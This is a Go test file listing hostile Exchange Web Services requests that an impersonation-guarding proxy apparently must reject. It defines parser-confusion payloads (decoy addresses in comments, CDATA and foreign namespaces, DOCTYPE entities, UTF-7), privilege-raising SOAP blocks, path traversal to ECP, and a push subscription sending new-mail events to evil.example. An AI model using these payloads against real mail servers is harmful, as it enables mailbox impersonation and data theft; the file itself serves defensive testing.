//go:build linux

package main

import (
	"context"
	"net/http"
	"strings"

	"hmaproxy/internal/ewstest"
)

// A hostileRequest must not reach Exchange with the token: Exchange might act for
// a mailbox that is not allowed, or a web page might have sent it.
type hostileRequest struct {
	name   string
	body   string
	header http.Header // additional headers
	path   string      // path of the request; "" means the endpoint
	host   string      // Host of the request; "" means localhost
	raw    []byte      // the whole request for corpus.Address; nil unless the other fields but name are unused
}

// Parts of documents. The envelope declares the prefixes in them.
const (
	soap11    = "http://schemas.xmlsoap.org/soap/envelope/"
	types     = "http://schemas.microsoft.com/exchange/services/2006/types"
	getFolder = `<m:GetFolder><m:FolderShape><t:BaseShape>IdOnly</t:BaseShape></m:FolderShape><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder>`
)

var (
	forAlice = ewstest.Impersonation("SmtpAddress", alice)
	forCEO   = ewstest.Impersonation("SmtpAddress", foreign)
)

// impersonating returns the header block ExchangeImpersonation, whose
// ConnectingSID has the given content.
func impersonating(content string) string {
	return `<t:ExchangeImpersonation><t:ConnectingSID>` + content + `</t:ConnectingSID></t:ExchangeImpersonation>`
}

// hostileRequests returns the requests of the family handWritten.
func hostileRequests() []hostileRequest {
	body := func(name, header string) hostileRequest {
		return hostileRequest{name: name, body: ewstest.Document(header, getFolder)}
	}
	operation := func(name, content string) hostileRequest {
		return hostileRequest{name: name, body: ewstest.Document(forAlice, content)}
	}
	raw := func(name, text string) hostileRequest { return hostileRequest{name: name, body: text} }
	header := func(name, value string) hostileRequest {
		return hostileRequest{name: "header " + name, body: ewstest.Document(forAlice, getFolder), header: http.Header{name: {value}}}
	}
	plain := ewstest.Document(forCEO, getFolder)
	decoy := `<t:ConnectingSID><t:SmtpAddress>` + alice + `</t:SmtpAddress></t:ConnectingSID>`
	return []hostileRequest{
		raw("another mailbox", plain),
		raw("no mailbox", ewstest.Document("", getFolder)),
		raw("no header", strings.Replace(ewstest.Document("", getFolder), "<soap:Header></soap:Header>", "", 1)),

		// The allowed mailbox is at a place where a text search finds it but
		// Exchange does not read it.
		body("decoy in a comment", "<!-- "+decoy+" -->"+forCEO),
		body("decoy in CDATA", `<x:Note xmlns:x="urn:x"><![CDATA[`+decoy+`]]></x:Note>`+forCEO),
		body("decoy in a foreign namespace", `<t:ExchangeImpersonation xmlns:t="urn:x">`+decoy+`</t:ExchangeImpersonation>`+forCEO),
		body("decoy in an attribute", `<x:Note xmlns:x="urn:x" a="`+strings.ReplaceAll(decoy, "<", "&lt;")+`"/>`+forCEO),
		raw("decoy before the root", strings.Replace(plain, "<soap:Envelope", "<!--"+decoy+"--><soap:Envelope", 1)),
		raw("decoy in a processing instruction", strings.Replace(plain, "<soap:Envelope", "<?x "+decoy+"?><soap:Envelope", 1)),
		raw("decoy after another header", strings.Replace(plain, "</soap:Header>", "</soap:Header><soap:Header>"+forAlice+"</soap:Header>", 1)),
		raw("decoy before the header", strings.Replace(plain, "<soap:Header>", "<soap:Header>"+forAlice+"</soap:Header><soap:Header>", 1)),
		raw("decoy in the body", ewstest.Document("", "<m:GetFolder>"+decoy+getFolder+"</m:GetFolder>")),
		raw("header after the body", `<soap:Envelope `+ewstest.Namespaces+`><soap:Body>`+getFolder+`</soap:Body><soap:Header>`+forAlice+`</soap:Header></soap:Envelope>`),
		raw("envelope in the operation", ewstest.Document(forAlice, "<m:GetFolder>"+plain[strings.Index(plain, "<soap:Envelope"):]+"</m:GetFolder>")),

		// The document names two mailboxes to impersonate, or one by its SID.
		body("two impersonations", forAlice+forCEO),
		body("two impersonations, the other order", forCEO+forAlice),
		body("two ConnectingSIDs", `<t:ExchangeImpersonation>`+decoy+strings.ReplaceAll(decoy, alice, foreign)+`</t:ExchangeImpersonation>`),
		body("two addresses", impersonating(`<t:SmtpAddress>`+alice+`</t:SmtpAddress><t:PrimarySmtpAddress>`+foreign+`</t:PrimarySmtpAddress>`)),
		body("an address and a SID", impersonating(`<t:SmtpAddress>`+alice+`</t:SmtpAddress><t:SID>S-1-5-21-1-2-3-500</t:SID>`)),
		body("a SID alone", impersonating(`<t:SID>S-1-5-21-1-2-3-500</t:SID>`)),
		body("nested impersonation", `<t:ExchangeImpersonation>`+decoy+forCEO+`</t:ExchangeImpersonation>`),

		// The address is not simply the text between its start tag and the next
		// tag, or the elements have unusual prefixes.
		body("comment in the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- --></t:SmtpAddress>`)),
		body("comment cuts the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- -->.evil.example</t:SmtpAddress>`)),
		body("address in CDATA", impersonating(`<t:SmtpAddress><![CDATA[`+foreign+`]]></t:SmtpAddress>`)),
		body("address by references", impersonating(`<t:SmtpAddress>&#99;eo@contoso.com</t:SmtpAddress>`)),
		body("element in the address", impersonating(`<t:SmtpAddress>`+alice+`<x:y xmlns:x="urn:x">`+foreign+`</x:y></t:SmtpAddress>`)),
		body("empty address", impersonating(`<t:SmtpAddress/>`)),
		body("null address", impersonating(`<t:SmtpAddress xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:nil="true">`+alice+`</t:SmtpAddress>`)),
		body("other prefixes", strings.Replace(strings.ReplaceAll(forCEO, "t:", "q:"), "<q:ExchangeImpersonation", `<q:ExchangeImpersonation xmlns:q="`+types+`"`, 1)),
		body("default namespace", strings.NewReplacer("<t:ExchangeImpersonation", `<ExchangeImpersonation xmlns="`+types+`"`, "t:", "").Replace(forCEO)),

		// Blocks that change the user for whom Exchange acts, or that Exchange
		// must understand.
		body("SerializedSecurityContext", forAlice+`<t:SerializedSecurityContext><t:UserSid>S-1-5-21-1-2-3-500</t:UserSid></t:SerializedSecurityContext>`),
		body("OpenAsAdminOrSystemService", forAlice+`<t:OpenAsAdminOrSystemService LogonType="Admin"><t:ConnectingSID><t:SmtpAddress>`+foreign+`</t:SmtpAddress></t:ConnectingSID></t:OpenAsAdminOrSystemService>`),
		body("ManagementRole", forAlice+`<t:ManagementRole><t:UserRoles><t:Role>MailboxSearch</t:Role></t:UserRoles></t:ManagementRole>`),
		body("an unknown block of Exchange's", forAlice+`<t:ProxySecurityContext>AA==</t:ProxySecurityContext>`),
		body("WS-Security that must be understood", forAlice+`<w:Security xmlns:w="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" soap:mustUnderstand="1"/>`),

		// A second operation, and operations that act beyond the mailbox.
		operation("two operations", getFolder+getFolder),
		operation("SearchMailboxes", `<m:SearchMailboxes><m:SearchQueries/><m:ResultType>StatisticsOnly</m:ResultType></m:SearchMailboxes>`),
		operation("AddDelegate", `<m:AddDelegate><m:Mailbox><t:EmailAddress>`+alice+`</t:EmailAddress></m:Mailbox><m:DelegateUsers/></m:AddDelegate>`),
		operation("ExecuteDiagnosticMethod", `<m:ExecuteDiagnosticMethod><m:Verb>ClearCache</m:Verb></m:ExecuteDiagnosticMethod>`),
		operation("push subscription", `<m:Subscribe><m:PushSubscriptionRequest SubscribeToAllFolders="true"><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes><t:StatusFrequency>1</t:StatusFrequency><t:URL>http://evil.example/</t:URL></m:PushSubscriptionRequest></m:Subscribe>`),

		// Malformed documents, and documents in which two readers may find
		// different values.
		raw("entity from a DOCTYPE", `<!DOCTYPE s [<!ENTITY a "`+foreign+`">]>`+strings.Replace(plain[strings.Index(plain, "<soap:Envelope"):], foreign, "&a;", 1)),
		raw("DOCTYPE", `<!DOCTYPE s>`+ewstest.Document(forAlice, getFolder)[len(ewstest.Declaration):]),
		raw("processing instruction", strings.Replace(ewstest.Document(forAlice, getFolder), "<soap:Envelope", "<?x y?><soap:Envelope", 1)),
		raw("UTF-7", strings.Replace(ewstest.Document(forAlice, getFolder), `encoding="utf-8"`, `encoding="utf-7"`, 1)),
		raw("SOAP 1.2", strings.Replace(ewstest.Document(forAlice, getFolder), soap11, "http://www.w3.org/2003/05/soap-envelope", 1)),
		raw("not closed", strings.TrimSuffix(ewstest.Document(forAlice, getFolder), "</soap:Envelope>")),
		raw("text after the root", ewstest.Document(forAlice, getFolder)+"x"),
		raw("a second document", ewstest.Document(forAlice, getFolder)+plain[strings.Index(plain, "<soap:Envelope"):]),
		raw("bytes that are not UTF-8", strings.Replace(ewstest.Document(forAlice, getFolder), "IdOnly", "\xc0\xbc", 1)),
		raw("an undeclared prefix", strings.Replace(ewstest.Document(forAlice, getFolder), "<m:FolderIds>", "<m:FolderIds><n:x/>", 1)),
		body("behind much white space", forAlice+strings.Repeat(" ", 70<<10)+forCEO),

		// Attacks outside the document.
		header("X-AnchorMailbox", foreign),
		header("X-PublicFolderMailbox", foreign),
		header("X-OWA-ExplicitLogonUser", foreign),
		header("Origin", "https://evil.example"),
		header("Sec-Fetch-Site", "cross-site"),
		header("Content-Type", "text/plain"),
		header("Content-Encoding", "gzip"),
		{name: "Host of a rebound name", body: ewstest.Document(forAlice, getFolder), host: "evil.example"},
		{name: "WS-Security endpoint", body: ewstest.Document(forAlice, getFolder), path: "/EWS/Exchange.asmx/wssecurity"},
		{name: "path that climbs", body: ewstest.Document(forAlice, getFolder), path: "/EWS/%2e%2e/ecp/DDI/DDIService.svc"},
		{name: "another service", body: ewstest.Document(forAlice, getFolder), path: "/EWS/UM2007Legacy.asmx"},
	}
}

// request returns h, without raw, as an HTTP request of the client user alice.
func (h hostileRequest) request(ctx context.Context, base string) (*http.Request, error) {
	r, err := message{h.body, alice, password}.request(ctx, base)
	if err != nil {
		return nil, err
	}
	for name, values := range h.header {
		r.Header[http.CanonicalHeaderKey(name)] = values
	}
	if h.path != "" {
		r.URL.Opaque = h.path
	}
	if h.host != "" {
		r.Host = h.host
	}
	return r, nil
}
